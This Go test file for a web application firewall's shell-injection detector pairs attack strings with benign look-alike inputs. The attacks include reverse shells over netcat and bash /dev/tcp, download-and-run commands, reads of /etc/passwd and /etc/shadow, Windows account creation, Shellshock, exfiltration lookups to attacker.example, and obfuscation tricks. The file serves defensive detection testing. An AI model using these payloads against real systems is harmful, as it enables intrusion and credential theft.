package shell

import "kongwaf/detect"

type row struct {
	name         string
	attack, twin string
	source       detect.Source
	field        string
	isName       bool
}

var rows = []row{
	{name: "operator and a command with a fitting path", attack: "127.0.0.1; cat /etc/passwd", twin: "the dog; cat and mouse"},
	{name: "pipe into a lonely command after an address", attack: "8.8.8.8|id", twin: "name|id|type"},
	{name: "and-list", attack: "x && whoami", twin: "Tom && Jerry"},
	{name: "background", attack: "a & ping -c 10 127.0.0.1 &", twin: "Tom & Jerry"},
	{name: "or-list with a failing left side", attack: "foo || sleep 10", twin: "sleep 10 hours || rest"},
	{name: "newline", attack: "1\nid\n", twin: "My name\nand address"},
	{name: "carriage return and a path", attack: "x\r/bin/uname -a", twin: "x\r/home/me"},
	{name: "backticks", attack: "`id`", twin: "use `ls -la | grep foo` to find it"},
	{name: "substitution", attack: "$(curl http://192.0.2.7/x)", twin: "$('#id').hide()"},
	{name: "substitution in a host name", attack: "$(whoami).attacker.example", twin: "$(document).ready"},
	{name: "process substitution", attack: "foo <(cat /etc/passwd)", twin: "a <(b)"},
	{name: "break-out of double quotes", attack: "\";id;\"", twin: "\"quoted\"; done"},
	{name: "break-out of single quotes", attack: "' ; /bin/sleep 31 ;", twin: "it's late; I'll sleep"},
	{name: "field separator instead of blanks", attack: ";cat$IFS/etc/passwd", twin: "cost;cat$ 5"},
	{name: "field separator in braces and a positional", attack: ";getent${IFS}$9hosts${IFS}$9x.example", twin: "a ${IFS} variable"},
	{name: "redirection instead of a blank", attack: "x;cat</etc/passwd", twin: "cat<dog"},
	{name: "brace list", attack: ";{cat,/etc/passwd}", twin: "{name,email}"},
	{name: "quotes inside the name", attack: ";c''at /e''tc/passwd", twin: "can''t; won''t"},
	{name: "backslash inside the name", attack: "|c\\at /etc/passwd", twin: "a|b\\c"},
	{name: "empty expansion inside the name", attack: ";wh$@oami", twin: "who@example.com; me"},
	{name: "caret inside the name (cmd.exe)", attack: "& w^ho^am^i", twin: "2^3 & 3^2"},
	{name: "wildcards for the name", attack: ";/???/??t /???/p??s??", twin: "what/???/ever"},
	{name: "set for a letter of the name", attack: ";/bin/c[a]t /etc/passwd", twin: "/[a-z]+/[0-9]"},
	{name: "path to the command", attack: "/usr/bin/id", twin: "/usr/share/doc"},
	{name: "path after a pipe", attack: "x|/usr/bin/env", twin: "x|/images/env.png"},
	{name: "bare command with a path", attack: "cat /etc/passwd", twin: "cat food"},
	{name: "bare command with options", attack: "ls -la", twin: "ls 300 lexus"},
	{name: "bare netcat with a shell", attack: "nc -e /bin/sh 192.0.2.1 99", twin: "nc 8000 controller"},
	{name: "reverse shell over bash's pseudo file", attack: "bash -i >& /dev/tcp/192.0.2.1/8080 0>&1", twin: "bash away in the gym"},
	{name: "download and run", attack: "wget http://192.0.2.1/x.sh -O- | sh", twin: "curl and divergence"},
	{name: "PowerShell with encoded code", attack: "powershell -enc SQBFAFgA", twin: "PowerShell 7.4 released"},
	{name: "cmd.exe", attack: "cmd /c dir", twin: "cmd key / ctrl key"},
	{name: "cmd.exe after an ampersand", attack: "x & dir c:\\", twin: "black & white"},
	{name: "type of a Windows file", attack: "type C:\\boot.ini", twin: "type A blood"},
	{name: "accounts of Windows", attack: "| net user hacker Passw0rd /add", twin: "the net | user growth"},
	{name: "registry", attack: "& reg query HKLM /s", twin: "reg & co"},
	{name: "Shellshock", attack: "() { :;}; /bin/bash -c 'id'", twin: "(see above) { ok }"},
	{name: "Shellshock, other body", attack: "() { _; } >_[$($())] { id; }", twin: "() => { return 1; }"},
	{name: "interpreter with code", attack: ";python3 -c 'import os;os.system(\"id\")'", twin: "perl; python; ruby"},
	{name: "encoded command piped into a shell", attack: ";echo aWQ= | base64 -d | bash", twin: "echo; base; bass"},
	{name: "variables that make up the name", attack: "(a=d;i$a)", twin: "(a=b;c)"},
	{name: "assignment before the command", attack: "X=1 ls -la", twin: "X=1 apples"},
	{name: "runner before the command", attack: ";sudo id", twin: "sudo; make me a sandwich"},
	{name: "loop", attack: "for i in 1 2 3; do echo $i; done", twin: "for you; do well; have fun"},
	{name: "parameter name as command line", attack: "--exec=`id`", twin: "--exec=fast"},
	{name: "blank as plus", attack: ";cat+/etc/passwd", twin: "cat+dog"},
	{name: "dns lookup of a tool", attack: "||nslookup abc.attacker.example", twin: "a||b"},
	{name: "time by arithmetic of cmd.exe", attack: "| set /a 3482*7301", twin: "| set | get"},
	{name: "cookie with a command", attack: "1;id", twin: "theme=dark; id=5; path=/", source: detect.SourceCookie},
	{name: "browser", attack: "x;curl 192.0.2.1|sh", twin: "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36", source: detect.SourceHeader, field: "User-Agent"},
	{name: "a table of Markdown", attack: "|cat /etc/shadow", twin: "| id | name | date |\n|----|------|------|"},
	{name: "a script is a document", attack: "$(id)", twin: "#!/bin/sh\nset -e\ncd /tmp && ls -la\nrm -rf build; make all\necho done with it\n"},
	{name: "an entity of HTML", attack: "&id&", twin: "x &sub; y &amp; z"},
	{name: "style sheet", attack: ";id", twin: "color: red; top: 0; left: 1px; sort: none"},
}
